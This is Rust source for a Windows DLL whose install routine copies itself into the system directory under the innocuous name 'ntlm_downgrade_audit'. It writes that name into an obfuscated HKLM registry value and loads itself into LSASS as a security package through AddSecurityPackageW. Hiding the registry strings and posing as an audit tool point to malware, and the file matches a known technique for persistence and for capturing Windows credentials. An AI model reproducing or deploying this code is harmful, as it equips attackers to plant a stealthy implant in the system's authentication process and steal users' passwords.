use crate::dlog;
use windows_sys::Win32::Foundation::{HMODULE, MAX_PATH};
use windows_sys::Win32::Security::Authentication::Identity::{AddSecurityPackageW, SECURITY_PACKAGE_OPTIONS};
use windows_sys::Win32::Storage::FileSystem::CopyFileW;
use windows_sys::Win32::System::LibraryLoader::{GetModuleFileNameW, GetModuleHandleExW, GET_MODULE_HANDLE_EX_FLAG_FROM_ADDRESS};
use windows_sys::Win32::System::Registry::{
    RegCloseKey, RegOpenKeyExW, RegQueryValueExW, RegSetValueExW, HKEY, HKEY_LOCAL_MACHINE, KEY_READ, KEY_WRITE, REG_MULTI_SZ,
};
use windows_sys::Win32::System::SystemInformation::GetSystemDirectoryW;

const KEY: [u8; 36] = [15, 102, 15, 182, 29, 25, 124, 100, 108, 174, 174, 75, 43, 190, 100, 220, 43, 190, 174, 220, 99, 15, 75, 190, 124, 100, 220, 43, 190, 174, 220, 99, 124, 221, 83, 167];
const VALUE: [u8; 17] = [15, 75, 198, 108, 174, 141, 190, 136, 240, 247, 167, 198, 31, 167, 201, 75, 83];
const PKG: &str = "ntlm_downgrade_audit";

unsafe fn own_path() -> Vec<u16> {
    let mut module: HMODULE = 0;
    GetModuleHandleExW(GET_MODULE_HANDLE_EX_FLAG_FROM_ADDRESS, DllInstall as *const u16, &mut module);
    let mut buf = [0u16; MAX_PATH as usize];
    let n = GetModuleFileNameW(module, buf.as_mut_ptr(), buf.len() as u32) as usize;
    buf[..n].iter().copied().chain(Some(0)).collect()
}

unsafe fn add_to_packages() {
    let mut key: HKEY = 0;
    if RegOpenKeyExW(HKEY_LOCAL_MACHINE, dlog::wide(&KEY).as_ptr(), 0, KEY_READ | KEY_WRITE, &mut key) != 0 {
        return;
    }
    let value = dlog::wide(&VALUE);
    let mut buf = vec![0u16; 4096];
    let mut size = (buf.len() * 2) as u32;
    let mut kind = 0u32;
    RegQueryValueExW(key, value.as_ptr(), std::ptr::null(), &mut kind, buf.as_mut_ptr() as *mut u8, &mut size);
    let existing = String::from_utf16_lossy(&buf[..(size as usize / 2)]);
    let mut list: Vec<String> = existing.split('\0').filter(|s| !s.is_empty()).map(String::from).collect();
    if !list.iter().any(|s| s == PKG) { list.push(PKG.to_string()); }
    let data: Vec<u16> = list.join("\0").encode_utf16().chain([0, 0]).collect();
    RegSetValueExW(key, value.as_ptr(), 0, REG_MULTI_SZ, data.as_ptr() as *const u8, (data.len() * 2) as u32);
    RegCloseKey(key);
}

#[no_mangle]
pub unsafe extern "system" fn DllInstall(install: i32, _cmdline: *const u16) -> i32 {
    if install == 0 {
        return 0;
    }
    let mut sys = [0u16; MAX_PATH as usize];
    let n = GetSystemDirectoryW(sys.as_mut_ptr(), sys.len() as u32) as usize;
    let dir = String::from_utf16_lossy(&sys[..n]);
    let target: Vec<u16> = format!("{dir}\\{PKG}.dll").encode_utf16().chain(Some(0)).collect();
    CopyFileW(own_path().as_ptr(), target.as_ptr(), 0);
    add_to_packages();
    let name: Vec<u16> = PKG.encode_utf16().chain(Some(0)).collect();
    let mut opts: SECURITY_PACKAGE_OPTIONS = std::mem::zeroed();
    opts.Size = std::mem::size_of::<SECURITY_PACKAGE_OPTIONS>() as u32;
    AddSecurityPackageW(name.as_ptr(), &opts);
    0
}
